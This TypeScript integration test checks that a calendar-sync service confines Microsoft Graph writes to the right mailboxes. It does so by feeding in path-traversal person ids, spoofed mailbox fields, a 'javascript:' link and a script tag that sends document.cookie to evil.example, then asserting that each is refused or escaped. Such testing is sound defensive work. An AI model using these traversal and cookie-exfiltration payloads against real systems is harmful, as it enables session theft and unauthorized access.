import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OWNER_PROP } from '../../src/domain/markers';
import { stopGracefully, type KadaChild } from '../../testkit/support/kadaProcess';
import { startKadaWorld, type KadaWorld } from '../../testkit/support/kadaWorld';
import { eventually, type AmqpFixture } from '../intake/amqpFixture';
import { fsPersonMessage, tpCourseMessage } from '../planner/plannerFixture';
import { ADMIN_TOKEN, type Harness } from '../../testkit/support/harness';

/**
 * kada writes only into mailboxes FS gives for persons of this institution that a notification
 * (or the fan-out of a TP change) concerns. Notifications naming a mailbox, a path-like or e-mail
 * person id, TP staff ids that look like addresses or paths, an FS address with a path in it, and
 * admin requests for such "persons" must not move a single Graph request anywhere else. The Graph
 * emulator's request log is the witness.
 */

let fx: AmqpFixture;
let h: Harness;
let kada: KadaChild;

let world: KadaWorld;
beforeAll(async () => {
  world = await startKadaWorld('confine', { seed: 43, students: 30, workers: 4 });
  ({ fx, h, kada } = world);
});
afterAll(async () => world?.close());

const db = () => h.db.dataSource;
const publish = (routingKey: string, body: object) => fx.publish(fx.exchangeFor(routingKey), routingKey, body);
const fsKey = 'no.uio.fs.FS-prod.personer.update';

async function quiet(): Promise<void> {
  await eventually(
    async () => {
      const [r] = await db().query(
        `SELECT (SELECT count(*) FROM inbox WHERE state = 'pending')::int AS inbox, (SELECT count(*) FROM jobs WHERE
           state IN ('queued', 'running'))::int AS jobs`,
      );
      return r.inbox === 0 && r.jobs === 0;
    },
    { what: 'kada to be idle', timeoutMs: 90_000 },
  );
}

describe('Graph writes stay in the mailboxes FS gives for the persons concerned', () => {
  it('hostile notifications, FS and TP data and admin requests cannot steer a write elsewhere', async () => {
    const inst = h.institution;
    // Someone with a mailbox and no teaching at all: nothing may ever happen in their calendar.
    const rektor = inst.addPerson({
      fornavn: 'Rektor',
      etternavn: 'Universitetet',
      brukernavn: 'rektor',
      epost: 'rektor@uio.no',
    });
    const students = inst.students().filter((s) => s.epost && inst.timetableOf(s.personlopenummer, '26h').length);
    const [target, pathy] = students;
    const pathyOld = pathy!.epost!;

    // 1. A notification for a real person that also names other mailboxes and persons.
    const named = fsPersonMessage(target!.personlopenummer);
    await publish(named.routingKey, {
      ...named.body,
      epost: 'rektor@uio.no',
      mailbox: 'rektor@uio.no',
      brukernavn: 'rektor',
      users: ['rektor@uio.no'],
    });
    await publish('no.uio.fs.FS-prod.undervisningsmeldinger.update', {
      specversion: '1.0',
      id: randomUUID(),
      source: 'https://fs.uio.no',
      type: 'no.uio.fs.undervisningsmeldinger.update',
      subject: 'undervisningsmeldinger/1',
      data: { person_id: target!.personlopenummer, mailbox: 'rektor@uio.no' },
    });
    // 2. Person ids that are paths or addresses, in every place a person id is read.
    const hostileIds = [
      '../x',
      '../../users/rektor@uio.no',
      'rektor@uio.no',
      `${rektor.personlopenummer}/..`,
      '%2e%2e%2fx',
      ' 12345',
    ];
    const dead: string[] = [];
    for (const id of hostileIds) {
      const jti = randomUUID();
      dead.push(jti);
      await publish(fsKey, { sub: `personer/${id}`, iss: 'FS-prod', operation: 'update', jti });
      const jti2 = randomUUID();
      dead.push(jti2);
      await publish('no.uio.fs.FS-prod.undervisningsmeldinger.update', {
        sub: 'undervisningsmeldinger/9',
        iss: 'FS-prod',
        operation: 'update',
        jti: jti2,
        person_id: id,
      });
    }
    const jti3 = randomUUID();
    dead.push(jti3);
    await publish('no.uio.tp.TP-prod.courses.update', {
      sub: 'courses/../../users/rektor@uio.no,1/26h',
      iss: 'TP-prod',
      operation: 'update',
      jti: jti3,
    });
    // 3. FS gives one student an address with a path in it.
    inst.setEmail(pathy!.personlopenummer, 'ola@uio.no/../rektor');
    const p = fsPersonMessage(pathy!.personlopenummer);
    await publish(p.routingKey, p.body);
    // 4. TP names "lecturers" that are addresses and paths, and puts markup and a script link in an occurrence.
    const course = inst
      .courses('26h')
      .find((c) => inst.registrationsOfCourse(c.ref).some((r) => r.personlopenummer === target!.personlopenummer))!.ref;
    const ev = inst.courseEvents(course)!.find((e) => e.status_plenary)!;
    ev.staffs.push(
      { id: 'rektor@uio.no', firstname: 'R', lastname: 'R', shortname: 'R', url: 'javascript:alert(1)' },
      { id: '../rektor', firstname: 'P', lastname: 'P', shortname: 'P', url: '' },
    );
    inst.setSummary(course, ev.eventid, '<script>fetch("https://evil.example/"+document.cookie)</script>');
    const tp = tpCourseMessage(course);
    await publish(tp.routingKey, tp.body);
    await quiet();

    // 5. The admin API, asked to rebuild such "persons".
    for (const who of [
      '..%2Fx',
      'rektor%40uio.no%2F..%2Fx',
      '%2e%2e',
      'x%3Fy',
      encodeURIComponent('../../users/rektor@uio.no'),
    ]) {
      const res = await fetch(`${kada.url}/api/persons/${who}/rebuild`, {
        method: 'POST',
        headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
      });
      expect([400, 404], who).toContain(res.status);
    }
    await quiet();

    // Every Graph request went to the mailbox of a person concerned, as FS gives it today.
    const concerned = new Set<string>([
      target!.personlopenummer,
      ...inst.registrationsOfCourse(course).map((r) => r.personlopenummer),
    ]);
    for (const r of inst.rolesOfCourse(course)) concerned.add(r.personlopenummer);
    for (const s of ev.staffs) {
      const person = inst.personByUsername(s.id);
      if (person) concerned.add(person.personlopenummer);
    }
    concerned.delete(pathy!.personlopenummer);
    const allowed = new Set(
      [...concerned].map((id) => inst.person(id)?.epost?.toLowerCase()).filter((m): m is string => !!m),
    );
    allowed.add(pathyOld.toLowerCase()); // the student's kada events leave the old address
    const touched = new Set(h.microsoft.graph.requestLog().map((r) => r.mailbox ?? '(none)'));
    expect([...touched].filter((m) => !allowed.has(m))).toEqual([]);
    expect(touched.has(target!.epost!.toLowerCase()), 'the legitimate work did happen').toBe(true);
    expect(touched.has('rektor@uio.no')).toBe(false);
    expect(h.microsoft.graph.events('rektor@uio.no')).toEqual([]);

    // Each hostile notification was refused (dead-lettered), not acted on.
    const refused: { notification_id: string }[] = await db().query(
      `SELECT notification_id FROM errors WHERE kind = 'dead_letter'`,
    );
    expect(refused.map((r) => r.notification_id).sort()).toEqual([...dead].sort());
    // The student with the path-like address is recorded as having no mailbox, and lost their events at the old one.
    const [pathyRow] = await db().query(`SELECT status, mailbox FROM persons WHERE person_id = $1`, [
      pathy!.personlopenummer,
    ]);
    expect(pathyRow).toEqual({ status: 'no_mailbox', mailbox: null });
    expect(h.microsoft.graph.events(pathyOld).filter((e) => e.extendedProperties[OWNER_PROP] === 'uio')).toEqual([]);
    // The hostile TP text reached calendars only as text, with no script link.
    const shown = h.microsoft.graph.events(target!.epost!).find((e) => e.subject.includes('fetch('))!;
    expect(shown.body.content).toContain(
      '&lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;',
    );
    expect(shown.body.content).not.toMatch(/<script|javascript:/i);
    const staffErrors: { code: string }[] = await db().query(`SELECT code FROM errors WHERE code = 'TP_STAFF_UNKNOWN'`);
    expect(staffErrors.length).toBeGreaterThanOrEqual(2);

    expect(await stopGracefully(kada)).toBe(0);
  }, 180_000);
});
